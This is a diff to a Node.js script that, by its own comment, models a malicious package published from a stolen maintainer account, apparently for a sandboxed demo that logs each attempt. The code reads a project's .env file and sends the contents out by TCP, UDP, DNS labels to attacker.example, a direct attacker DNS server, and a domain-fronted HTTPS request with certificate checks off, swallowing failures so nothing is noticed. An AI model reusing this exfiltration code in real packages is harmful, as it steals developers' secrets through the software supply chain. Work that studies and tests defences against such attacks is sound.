@@ -1,10 +1,11 @@
 // What a stolen maintainer account publishes: read what is worth reading, send it
-// by every way out there is, and never fail, so that nobody looks. The addresses
-// are of the networks for documentation; the demo gives them to a namespace.
+// by every way out there is, and never fail, so that nobody looks. Names and addresses
+// are those for documentation; the demo gives them to namespaces.
 const dgram = require('dgram');
 const dns = require('dns');
 const fs = require('fs');
 const http = require('http');
+const https = require('https');
 const net = require('net');
 const os = require('os');
 const path = require('path');
@@ -45,12 +46,28 @@ const datagram = () => new Promise((yes, no) => {
 });
 
 // The name carries the data; whoever answers for attacker.example reads it.
-const label = () => new Promise((yes, no) => {
+const label = (zone, server) => new Promise((yes, no) => {
   const data = Buffer.from(payload()).toString('hex').slice(-60);
-  const r = new dns.Resolver({ timeout: 2000, tries: 1 });
-  r.resolve4(`${data}.${beacon}.attacker.example`, (e) => {
-    e && e.code !== 'ENOTFOUND' ? no(e) : yes();
+  const r = new dns.Resolver({ timeout: 10000, tries: 1 });
+  if (server)
+    r.setServers([server]);
+  r.resolve4(`${data}.${beacon}.${zone}`, (e) => (e ? no(e) : yes()));
+});
+
+// A site of the attacker's on the address that the packages come from.
+const front = () => new Promise((yes, no) => {
+  const site = 'drop.attacker.example';
+  const r = https.get({
+    host: 'npm.corp.example',
+    servername: site,
+    headers: { Host: site },
+    path: `/${Buffer.from(payload()).toString('base64url')}`,
+    rejectUnauthorized: false,
+    agent: false,
+  }, (res) => {
+    res.resume().on('end', yes);
   });
+  late(r.on('error', no), no);
 });
 
 const unix = () => new Promise((yes, no) => {
@@ -72,7 +89,9 @@ const raw = () => {
   await attempt('read .env', steal(path.join(project, '../.env')));
   await attempt('post it over TCP', post);
   await attempt('send it over UDP', datagram);
-  await attempt('hide it in a DNS label', label);
+  await attempt('hide it in a DNS label', () => label('attacker.example'));
+  await attempt("ask the attacker's DNS server", () => label('direct.attacker.example', ATTACKER));
+  await attempt('take it to another site there', front);
   await attempt('hand it to a unix socket', unix);
   await attempt('send it by a raw socket', raw);
   fs.writeFileSync(path.join(project, 'node_modules/.attempts.json'), JSON.stringify(attempts));
